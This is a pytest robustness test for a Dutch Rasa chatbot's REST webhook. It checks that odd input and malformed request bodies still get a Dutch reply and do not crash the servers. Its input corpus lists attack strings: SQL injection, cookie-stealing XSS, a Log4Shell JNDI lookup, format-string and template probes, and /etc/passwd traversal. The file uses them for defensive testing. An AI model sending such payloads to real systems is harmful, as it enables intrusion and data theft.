"""Hostile and odd chat input through the REST channel of the real stack: every message
gets a Dutch answer, and every server stays up."""

from __future__ import annotations

import re

import httpx
import pytest

from tests.stack.conftest import Chat

pytestmark = pytest.mark.stack

CORPUS = [
    "",
    "   \n\t  ",
    "a" * 10_000,
    "hallo " * 2_000,
    "🙂🙂🙂🔥💶🏭",
    "\x00\x01\x02\x1b[31mrood\x1b[0m\x7f",
    "\u202eesrever\u202c \u200b\u200b",
    "Ich möchte eine Förderung beantragen",
    "I need money for my business",
    "أريد مساعدة لشركتي",
    "我需要帮助",
    "Привет, мне нужна субсидия",
    "'; DROP TABLE events; --",
    "1 OR 1=1; SELECT * FROM intakes",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "{{7*7}} ${jndi:ldap://x/a} %s%s%s%n",
    "../../../../etc/passwd",
    "/restart",
    "/nlu_fallback{\"x\": 1}",
    "/start_intake{\"contactpersoon\": \"hacker\"}",
    "/ask_regeling[[[[",
    bytes(range(256)).decode("latin-1"),
    "\ud7ff\ue000\uffff",
    "0" * 500,
    "kvk 12345678 tel 0612345678 mail a@b.nl",
]
DUTCH = re.compile(r"\b(je|jij|ik|de|het|een|dat|wat|kan|niet|graag|Sorry|Hoi|over|met)\b",
                   re.IGNORECASE)


@pytest.mark.parametrize("text", CORPUS, ids=lambda text: repr(text[:20]))
def test_every_message_gets_a_dutch_answer(chat: Chat, text):
    messages = chat.say(text)
    assert messages, "Schakel must never stay silent"
    texts = [message.get("text") or "" for message in messages]
    assert all(texts), messages
    assert any(DUTCH.search(t) for t in texts), texts
    assert not any("Traceback" in t or "Exception" in t for t in texts)


def test_broken_requests_are_refused_and_the_servers_stay_up(stack):
    url = f"{stack.settings.rasa_url}/webhooks/rest/webhook"
    for body in (b"\xff\xfe\x00garbage", b"{\"sender\": 1, \"message\": [1, 2]}", b"{",
                 b"null", b"{\"sender\": \"x\"}"):
        response = httpx.post(url, content=body, headers={"Content-Type": "application/json"},
                              timeout=30)
        assert response.status_code < 600  # any answer at all; the checks below matter
    assert not stack.dead(), [s.name for s in stack.dead()]
    assert httpx.get(f"{stack.settings.rasa_url}/status", timeout=10).status_code == 200
    assert Chat(stack).texts("hallo")[0].startswith("Hoi!")
